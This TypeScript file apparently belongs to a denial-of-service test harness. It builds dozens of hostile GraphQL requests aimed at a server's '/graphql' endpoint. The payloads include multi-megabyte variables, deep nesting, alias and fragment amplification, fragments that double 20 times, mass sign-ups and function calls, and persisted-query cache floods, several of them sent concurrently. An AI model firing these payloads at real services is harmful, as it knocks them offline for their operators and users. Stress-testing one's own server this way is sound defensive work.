import { createHash } from "node:crypto";
import { graphOf, KNOTS } from "./graph.ts";
import { type RequestAttack, repeat } from "./requestAttack.ts";
import { applicationHeaders, type HostileRequest, type Target } from "./target.ts";

export interface Operation {
  query: string;
  variables?: Record<string, unknown>;
}

const operation = (target: Target, { query, variables }: Operation): HostileRequest => ({
  path: "/graphql",
  headers: applicationHeaders(target),
  body: JSON.stringify({ query, variables }),
});

/** An operation about the objects of the graph; several of them if `count` is given. */
const sent =
  (operationOf: (graph: Awaited<ReturnType<typeof graphOf>>, i: number) => Operation, count = 1) =>
  async (target: Target): Promise<HostileRequest[]> => {
    const graph = await graphOf(target);
    return repeat(count, (i) => operation(target, operationOf(graph, i)));
  };

export const many = (count: number, partOf: (i: number) => string): string => repeat(count, partOf).join(" ");
const unknownKeys = (count: number) => Object.fromEntries(repeat(count, (i) => [`k${i}`, 1]));
const WITH_WHERE = "query($w: KnotWhereInput) { knots(where: $w) { count } }";
const atManyPlaces = (count: number) =>
  `query($w: KnotWhereInput) { ... on Query { ${many(count, (i) => `a${i}: knots(where: $w) { count }`)} } }`;
/** Connections of connections, as deep as an operation may be. */
const nested = (depth: number): string =>
  depth === 0 ? "title" : `title others(first: 1) { edges { node { ${nested(depth - 1)} } } }`;

/** Operations of about as many tokens, fields or fragments as a document may have; `i` makes each one new. */
const DOCUMENTS: readonly [string, (i: number) => string][] = [
  ["distinct fields", (i) => `{ knot(id: "x") { ${many(450, (n) => `a${n}: title`)} b${i}: title } }`],
  ["a field 400 times", (i) => `{ knot(id: "x") { ${"title ".repeat(400)} b${i}: title } }`],
  ["pointers 140 times", (i) => `{ knot(id: "x") { ${"next { title } ".repeat(140)} b${i}: title } }`],
  ["connections in connections", (i) => `{ a${i}: knot(id: "x") { ${nested(6)} } }`],
  [
    "300 connections",
    (i) => `{ knot(id: "x") { ${many(300, (n) => `a${n}: others(first: 1) { count }`)} b${i}: title } }`,
  ],
  [
    "a chain of 400 fragments",
    (i) =>
      `{ a${i}: knot(id: "x") { ...F0 } } ${many(400, (n) => `fragment F${n} on Knot { title ...F${n + 1} }`)} fragment F400 on Knot { title }`,
  ],
  [
    "fragments that double 20 times",
    (i) =>
      `{ a${i}: knot(id: "x") { ...F0 } } ${many(20, (n) => `fragment F${n} on Knot { ...F${n + 1} ...F${n + 1} }`)} fragment F20 on Knot { title }`,
  ],
  [
    "250 fragments at one place",
    (i) =>
      `{ a${i}: knot(id: "x") { ${many(250, (n) => `...F${n}`)} } } ${many(250, (n) => `fragment F${n} on Knot { title }`)}`,
  ],
  ["introspection", (i) => `{ a${i}: __schema { types { fields { type { fields { name } } } } } }`],
  [
    "values of 200 kB",
    (i) => `{ a${i}: knots(where: { title: { in: [${'"x" '.repeat(4_500)}] } }) { count } }`,
  ],
  ["a text of 250 kB", (i) => `{ a${i}: knot(id: "${"x".repeat(250_000)}") { title } }`],
  ["comments", (i) => `${"#\n".repeat(120_000)}{ a${i}: health }`],
  ["tokens", (i) => `{ a${i}: knot(id: "x") { ${"@skip(if: true) ".repeat(1_300)} title } }`],
  ["unknown fields", (i) => `{ knot(id: "x") { ${many(4_000, (n) => `titl${n}x${i}`)} } }`],
  ["arguments", (i) => `{ a${i}: knots(${many(2_000, (n) => `a${n}: 1`)}) { count } }`],
  ["variables", (i) => `query(${many(1_500, (n) => `$a${n}: Int`)}) { a${i}: health }`],
  ["operations", (i) => many(1_000, (n) => `query Q${n}x${i} { health }`)],
];

export const GRAPHQL: readonly RequestAttack[] = [
  {
    generator: "a variable with 10,000 unknown keys",
    make: sent(() => ({ query: WITH_WHERE, variables: { w: unknownKeys(10_000) } })),
  },
  {
    generator: "a variable with 30,000 unknown keys",
    make: sent(() => ({ query: WITH_WHERE, variables: { w: unknownKeys(30_000) } })),
  },
  {
    generator: "a variable with 60 unknown keys and a text of 3.8 MB",
    make: sent(() => ({
      query: WITH_WHERE,
      variables: { w: { big: "x".repeat(3_800_000), ...unknownKeys(60) } },
    })),
  },
  {
    generator: "a variable with 38,000 texts in a list",
    make: sent(() => ({
      query: WITH_WHERE,
      variables: { w: { title: { in: repeat(38_000, (i) => `t${i}`) } } },
    })),
  },
  {
    generator: "a variable with 9,000 conditions",
    make: sent(() => ({
      query: WITH_WHERE,
      variables: { w: { OR: repeat(9_000, (i) => ({ title: { equalTo: `t${i}` } })) } },
    })),
  },
  {
    generator: "a variable with 190,000 numbers",
    make: sent(() => ({
      query: "query($o: [KnotOrder!]) { knots(order: $o) { count } }",
      variables: { o: repeat(190_000, (i) => i) },
    })),
  },
  {
    generator: "a variable with 39,000 orders",
    make: sent(() => ({
      query: "query($o: [KnotOrder!]) { knots(order: $o) { count } }",
      variables: { o: repeat(39_000, () => "title_ASC") },
    })),
  },
  {
    generator: "a variable 90 deep",
    make: sent(() => ({
      query: WITH_WHERE,
      variables: {
        w: repeat(90, (i) => i).reduce<object>((inner) => ({ AND: [inner] }), { title: { equalTo: "x" } }),
      },
    })),
  },
  {
    generator: "a variable with 900 conditions at 100 places",
    make: sent(() => ({
      query: atManyPlaces(100),
      variables: { w: { OR: repeat(900, (i) => ({ title: { equalTo: `t${i}` } })) } },
    })),
  },
  {
    generator: "a variable with 40 conditions at 100 places, 5 times at a time",
    isConcurrent: true,
    make: sent(
      () => ({
        query: atManyPlaces(100),
        variables: { w: { OR: repeat(40, (i) => ({ title: { equalTo: `t${i}` } })) } },
      }),
      5,
    ),
  },
  {
    generator: "a variable with 19,000 texts at 400 places",
    make: sent(() => ({
      query: atManyPlaces(400),
      variables: { w: { title: { in: repeat(19_000, (i) => `t${i}`) } } },
    })),
  },
  {
    generator: "a text of 1 MB under 400 aliases",
    make: sent(({ largeId }) => ({
      query: `{ knot(id: "${largeId}") { ${many(400, (i) => `a${i}: text`)} } }`,
    })),
  },
  {
    generator: "a text of 1 MB under 60 aliases",
    make: sent(({ largeId }) => ({
      query: `{ knot(id: "${largeId}") { ${many(60, (i) => `a${i}: text`)} } }`,
    })),
  },
  {
    generator: "an object of 1 MB at 100 places",
    make: sent(({ largeId }) => ({
      query: `{ ${many(100, (i) => `a${i}: knot(id: "${largeId}") { text }`)} }`,
    })),
  },
  {
    generator: `${KNOTS} × ${KNOTS} objects of relations, 5 times at a time`,
    isConcurrent: true,
    make: sent(
      (_, i) => ({
        query: `{ knots(first: ${KNOTS}) { edges { node { a${i}: title others(first: ${KNOTS}) { edges { node { objectId title } } } } } } }`,
      }),
      5,
    ),
  },
  {
    generator: `${KNOTS} × ${KNOTS} objects of lists, 5 times at a time`,
    isConcurrent: true,
    make: sent(
      (_, i) => ({
        query: `{ knots(first: ${KNOTS}) { edges { node { a${i}: title all { ... on Knot { objectId title } } } } } }`,
      }),
      5,
    ),
  },
  {
    generator: "pointers 10 deep, 5 times at a time",
    isConcurrent: true,
    make: sent(
      (_, i) => ({
        query: `{ knots(first: 100) { edges { node { a${i}: title ${"next { title ".repeat(10)}${"}".repeat(10)} } } } }`,
      }),
      5,
    ),
  },
  {
    generator: "queries that fail at 3,600 places",
    make: sent(() => ({
      query: `{ knots(first: ${KNOTS}) { edges { node { ${many(60, (i) => `a${i}: others(where: { title: { matchesRegex: "[" } }) { count }`)} } } } }`,
    })),
  },
  {
    generator: "relations that are closed at 3,600 places",
    make: sent(() => ({
      query: `{ knots(first: ${KNOTS}) { edges { node { ${many(60, (i) => `a${i}: shut { count }`)} } } } }`,
    })),
  },
  {
    generator: "values of the wrong type at 3,600 places",
    make: sent(() => ({
      query: `{ knots(first: ${KNOTS}) { edges { node { ${many(60, (i) => `a${i}: others(first: -1) { count }`)} } } } }`,
    })),
  },
  {
    generator: "100 creates of one variable",
    make: sent(() => ({
      query: `mutation($i: CreateKnotInput!) { ${many(100, (i) => `a${i}: createKnot(input: $i) { knot { id } }`)} }`,
      variables: { i: { fields: { title: "x".repeat(10_000) } } },
    })),
  },
  {
    generator: "100 objects created inside of objects",
    make: sent(() => ({
      query: "mutation($i: CreateKnotInput!) { createKnot(input: $i) { knot { id } } }",
      variables: { i: { fields: { others: { createAndAdd: repeat(100, (i) => ({ title: `t${i}` })) } } } },
    })),
  },
  {
    generator: "100 sign-ups",
    make: sent(() => ({
      query: `mutation { ${many(100, (i) => `a${i}: signUp(input: { fields: { username: "g${i}", password: "p" } }) { viewer { sessionToken } }`)} }`,
    })),
  },
  {
    generator: "100 functions",
    make: sent(() => ({
      query: `mutation { ${many(100, (i) => `a${i}: callCloudCode(input: { functionName: hello, params: {} }) { result }`)} }`,
    })),
  },
  {
    generator: "a query string of 15 kB",
    make: async (target) =>
      repeat(20, (i) => ({
        method: "GET",
        path: `/graphql?${new URLSearchParams({
          query: `{ knot(id: "x") { ${many(300, (n) => `a${n}: title`)} b${i}: title } }`,
          variables: JSON.stringify(unknownKeys(500)),
        })}`,
        headers: applicationHeaders(target),
      })),
  },
  {
    generator: "1,000 documents that are kept by their hash",
    make: async (target) =>
      repeat(1_000, (i) => {
        const query = `{ a${i}: health #${"x".repeat(2_000)}\n}`;
        const sha256Hash = createHash("sha256").update(query).digest("hex");
        return {
          path: "/graphql",
          headers: applicationHeaders(target),
          body: JSON.stringify({ query, extensions: { persistedQuery: { version: 1, sha256Hash } } }),
        };
      }),
  },
  ...DOCUMENTS.map(
    ([name, documentOf]): RequestAttack => ({
      generator: `20 documents of ${name}`,
      isConcurrent: true,
      make: sent((_, i) => ({ query: documentOf(i) }), 20),
    }),
  ),
];
